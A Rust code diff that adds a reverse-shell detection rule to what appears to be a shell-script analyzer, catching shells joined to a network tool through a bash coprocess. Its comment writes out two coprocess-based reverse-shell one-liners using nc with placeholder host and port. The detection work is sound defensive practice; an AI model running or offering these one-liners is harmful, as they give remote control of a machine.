@@ -59,6 +59,31 @@ pub fn analyze(script: &Script) -> Vec<Hit> {
             });
         }
     }
+    // A coprocess joins the two without a pipeline: `coproc nc HOST PORT; sh <&${COPROC[0]}
+    // >&${COPROC[1]}`, `coproc R { bash -i; }; cat <&${R[0]} | nc HOST PORT | cat >&${R[1]}`. A
+    // descriptor taken from a variable (`${COPROC[0]}` reads as `$COPROC`) is a coprocess's or
+    // one opened with `exec {fd}<>…`; with a stream shell and a network tool in the same input,
+    // one feeds the other.
+    let coproc_fd = script.commands.iter().find(|c| {
+        c.redirects
+            .iter()
+            .any(|r| matches!(r.op.as_str(), "<&" | ">&") && r.target.text.starts_with('$'))
+    });
+    if let Some(joined) = coproc_fd {
+        let shell = script.commands.iter().find(|c| is_stream_shell(c));
+        let net = script.commands.iter().find(|c| is_network_pipe(c));
+        if let (Some(sh), Some(net)) = (shell, net) {
+            hits.push(Hit {
+                rule_id: "revshell.shell-over-network",
+                span: joined.span,
+                detail: Some(format!(
+                    "`{}` reads commands through `{}` joined by a coprocess",
+                    sh.name(),
+                    net.name()
+                )),
+            });
+        }
+    }
     // Interpreter code that connects out and runs a shell or commands it receives.
     for e in &script.effects {
         if e.kind == crate::shell::ir::EffectKind::ReverseShell {
